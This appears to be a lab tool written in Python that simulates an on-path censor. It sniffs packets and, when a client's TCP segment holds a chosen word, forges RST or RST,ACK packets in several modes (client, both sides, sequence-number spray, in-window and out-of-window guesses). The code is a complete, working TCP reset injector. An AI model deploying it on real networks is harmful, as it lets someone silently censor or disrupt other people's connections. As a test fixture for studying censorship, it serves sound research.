"""A device on the path that forges resets when a client's segment holds a word; each connection once.

Options: `word`, `port`, `device`, `hops` (first TTL), and `aim`: `client` (RST,ACK), `both` (bare RST each way),
`spray` (three RST,ACK with different sequence numbers to the client, one bare RST to the server), `inside` and
`outside` (sequence numbers that are not exact, within or far beyond the window).
"""
import socket, struct

from lab_tell import OPTIONS, tell

RST, RST_ACK = 0x04, 0x14
ETHERTYPES = (0x0800, 0x86DD)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(source, to, sport, dport, seq, ack, flags, hops):
    v6 = len(source) == 16
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags, 0, 0, 0)
    pseudo = source + to + (struct.pack("!I3xB", len(tcp), 6) if v6 else struct.pack("!BBH", 0, 6, len(tcp)))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if v6:
        RAW6.sendto(struct.pack("!IHBB", 0x60000000, len(tcp), 6, hops) + source + to + tcp, (socket.inet_ntop(socket.AF_INET6, to), 0, 0, 0))
    else:
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x3A00, 0x4000, hops, 6, 0, source, to)
        RAW4.sendto(head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp, (socket.inet_ntop(socket.AF_INET, to), 0))


def forge(client, server, sport, dport, seq, ack, length):
    after, hops, aim = seq + length, OPTIONS["hops"], OPTIONS["aim"]
    to_client = lambda number, flags, less=0: send(server, client, dport, sport, number, after if flags == RST_ACK else 0, flags, hops - less)
    if aim == "client":
        to_client(ack, RST_ACK)
    elif aim == "both":
        to_client(ack, RST)
        send(client, server, sport, dport, after, 0, RST, hops)
    elif aim == "spray":
        for less, beyond in enumerate((0, 1460, 4380)):
            to_client(ack + beyond, RST_ACK, less * 3)
        send(client, server, sport, dport, after, 0, RST, hops)
    else:
        for beyond in (700, 4000, 9000) if aim == "inside" else (1 << 20, 1 << 28, 3 << 29):
            to_client(ack + beyond, RST_ACK)


def watch():
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    sniffer.bind((OPTIONS["device"], 3))
    tell("ready")
    done = set()
    while True:
        packet, (_, ethertype, kind, *_rest) = sniffer.recvfrom(70000)
        if ethertype not in ETHERTYPES or kind == socket.PACKET_OUTGOING:
            continue
        v6 = packet[0] >> 4 == 6
        if packet[6 if v6 else 9] != 6:
            continue
        start = 40 if v6 else (packet[0] & 15) * 4
        client, server = (packet[8:24], packet[24:40]) if v6 else (packet[12:16], packet[16:20])
        sport, dport, seq, ack = struct.unpack("!HHII", packet[start : start + 12])
        end = 40 + struct.unpack("!H", packet[4:6])[0] if v6 else struct.unpack("!H", packet[2:4])[0]
        data = packet[start + (packet[start + 12] >> 4) * 4 : end]
        if dport != OPTIONS["port"] or (client, sport) in done or OPTIONS["word"].encode() not in data:
            continue
        done.add((client, sport))
        forge(client, server, sport, dport, seq, ack, len(data))
        tell("forged", port=sport)


RAW4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
RAW6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
watch()
